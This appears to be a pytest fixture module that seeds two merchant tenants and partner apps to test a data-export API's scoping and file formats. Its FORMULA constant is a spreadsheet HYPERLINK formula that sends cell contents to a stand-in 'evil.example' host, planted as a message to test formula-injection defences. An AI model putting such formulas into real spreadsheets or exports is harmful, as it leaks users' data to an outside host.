"""Two merchants, A and B, with rows in every dataset, and a partner that both authorised with
``data.export`` (as a service provider serves many merchants); a second app that only A
authorised. Written once per module through the services' seeds; tests read, export and sync."""

from __future__ import annotations

import csv
import gzip
import io
import json
from dataclasses import dataclass, field

import pytest

from tests.conftest import AppCredentials, Factory, bearer
from tests.poi.api_world import seed_store
from tests.tenants import (
    merchant_grant_scopes,
    restore_rows,
    seed_creator_content,
    seed_miniprogram,
    seed_orders,
    seed_service_account,
    snapshot_rows,
    world_outlives_the_module,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@dataclass
class Tenant:
    merchant_id: str
    ids: dict = field(default_factory=dict)  # every object of this tenant, by kind


@dataclass
class ExportWorld:
    app: object
    partner: AppCredentials
    token: str  # the partner's client-credentials token (data.export for A and B)
    other: AppCredentials  # another app: only A authorised it
    other_token: str
    a: Tenant
    b: Tenant

    def base(self, tenant: Tenant) -> str:
        return f"/v1/merchants/{tenant.merchant_id}"

    @property
    def headers(self) -> dict:
        return bearer(self.token)

    def export(self, client, tenant: Tenant, headers: dict | None = None, **body) -> dict:
        """Create an export (the job runs when the request ends: immediate jobs) and get it again."""
        from datetime import timedelta

        from gateway.clock import utcnow

        today = utcnow().date()
        body = {"dataset": "orders", "date_from": (today - timedelta(days=7)).isoformat(),
                "date_to": today.isoformat(), **body}
        created = client.post(f"{self.base(tenant)}/exports", json=body, headers=headers or self.headers)
        assert created.status_code == 202, created.get_json()
        job = client.get(f"{self.base(tenant)}/exports/{created.get_json()['id']}", headers=headers or self.headers)
        assert job.status_code == 200
        return job.get_json()

    def download(self, client, job: dict, headers: dict | None = None):
        return client.get(job["download_url"], headers=headers or self.headers, buffered=True)


def seed_tenant(app, factory: Factory, partner: AppCredentials, other: AppCredentials | None, *, live: bool,
                reviewer) -> Tenant:
    """The merchant's store, orders, mini-program mount, service account and page views, written
    by the merchant's own store partner (``seeder``); ``partner`` and ``other`` get ``data.export``."""
    from datetime import timedelta

    from sqlalchemy import update

    from gateway.clock import utcnow
    from gateway.ids import new_id
    from gateway.miniprograms.models import Mount, MountEvent
    from gateway.poi.models import Poi, PoiPageView
    from gateway.service_accounts import services as accounts
    from gateway.service_accounts.models import ServiceAccount

    owner = factory.user()
    merchant = factory.merchant(owner)
    seeder = factory.app_client(kind="mini_program")  # each store partner has its own external ids
    factory.authorize(seeder, merchant, merchant_grant_scopes())
    factory.authorize(partner, merchant, ["data.export"])
    if other is not None:
        factory.authorize(other, merchant, ["data.export"])
    tenant = Tenant(merchant.id, {"merchant": merchant.id, "owner": owner.id})
    partner = seeder
    poi_id, product_id, _ = seed_store(app, partner, merchant.id, live=live, operator_user_id=reviewer.id)
    tenant.ids.update(poi=poi_id, product=product_id)
    tenant.ids.update(seed_orders(app, partner.id, merchant.id, poi_id, product_id, owner.id))
    miniprogram_id = seed_miniprogram(app, partner.id, live=live, operator_user_id=reviewer.id)
    tenant.ids.update(seed_creator_content(app, partner.id, owner.id, miniprogram_id, live=live,
                                           operator_user_id=reviewer.id))
    tenant.ids.update(seed_service_account(app, partner.id, merchant.id, owner.id, live=True))
    with app.app_context(), app.extensions["shijing.db"].new_session() as s:
        now = utcnow()
        s.execute(update(Mount).where(Mount.id == tenant.ids["mount"]).values(poi_id=poi_id))
        s.execute(update(Poi).where(Poi.id == poi_id).values(quality_tags=["hygiene_a", "fast_service"]))
        views = [PoiPageView(id=new_id("page_view"), poi_id=poi_id, merchant_id=merchant.id, source=source,
                             source_id=None, user_id=owner.id, viewed_at=now - timedelta(hours=hours))
                 for source, hours in (("search", 0), ("search", 1), ("nearby", 25), ("direct", 49))]
        events = [MountEvent(id=new_id("mount_event"), mount_id=tenant.ids["mount"], kind=kind, target_type="video",
                             target_id=tenant.ids["video"], miniprogram_id=miniprogram_id,
                             creator_id=tenant.ids["creator"], user_id=owner.id, occurred_at=now)
                  for kind in ("exposure", "exposure", "click")]
        s.add_all(views + events)
        account = s.get(ServiceAccount, tenant.ids["service_account"])
        message = accounts.receive_message(s, account, owner.id, FORMULA)  # a payload a spreadsheet would run
        s.commit()
        tenant.ids["page_view"] = views[0].id
        tenant.ids["mount_event"] = events[0].id
        tenant.ids["message"] = message.id if message is not None else ""
    return tenant


@pytest.fixture(scope="module")
def export_world_template(app) -> tuple[ExportWorld, list]:
    factory = Factory(app)
    reviewer = factory.user(operator=True)
    partner = factory.app_client()  # a data partner serving both merchants
    other = factory.app_client()
    a = seed_tenant(app, factory, partner, other, live=False, reviewer=reviewer)
    b = seed_tenant(app, factory, partner, None, live=True, reviewer=reviewer)
    world = ExportWorld(app, partner, factory.token(partner), other, factory.token(other), a, b)
    world_outlives_the_module(app)
    return world, snapshot_rows(app)


@pytest.fixture
def export_world(app, export_world_template) -> ExportWorld:
    """Built once per module; its rows are put back before each test (each test ends with an empty database)."""
    world, rows = export_world_template
    restore_rows(app, rows)
    return world


def read_rows(content: bytes, fmt: str, zipped: bool = False) -> list[dict]:
    if zipped:
        content = gzip.decompress(content)
    text = content.decode("utf-8")
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text, newline="")))
    return [json.loads(line) for line in text.splitlines() if line]
